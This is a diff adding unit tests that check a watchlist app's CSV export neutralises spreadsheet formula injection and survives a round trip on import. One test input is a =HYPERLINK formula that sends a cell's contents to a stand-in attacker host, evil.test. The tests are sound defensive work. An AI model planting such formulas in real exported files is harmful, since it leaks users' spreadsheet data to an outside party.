@@ -42,3 +42,36 @@ describe('watchlist files with lots', () => {
     expect(read.ok && read.skipped).toEqual(['lot of cn:600519: quantity must be a number'])
   })
 })
+
+describe('CSV export a spreadsheet opens safely (issue 38, finding 4)', () => {
+  const names = [
+    '=HYPERLINK("https://evil.test/?"&A1,"x")',
+    '+1+1',
+    '-2+3',
+    '@SUM(A1)',
+    '\tTab',
+    '\rCR',
+  ]
+
+  it.each(names)('writes the list name %j as text, never as a formula', (name) => {
+    const text = formatWatchlistFile({ name, symbols: ['us:AAPL'] }, 'csv')
+    const row = text.split('\n')[1]!
+    // The cell (quoted or not) starts with the single quote OWASP prescribes.
+    expect(row.replace(/^"/, '')).toMatch(/^'/)
+  })
+
+  it('quotes a cell holding a carriage return, so no spreadsheet reads a new row there', () => {
+    const text = formatWatchlistFile({ name: 'a\rb', symbols: ['us:AAPL'] }, 'csv')
+    expect(text).toContain('"a\rb",us:AAPL')
+  })
+
+  it('reads the quote back off on import: a list named "-Tech" survives the round trip', () => {
+    for (const name of ['-Tech', '=calc', '@home']) {
+      const read = parseWatchlistFile(
+        'csv',
+        formatWatchlistFile({ name, symbols: ['us:AAPL'] }, 'csv'),
+      )
+      expect(read.ok && read.lists[0]?.name).toBe(name)
+    }
+  })
+})
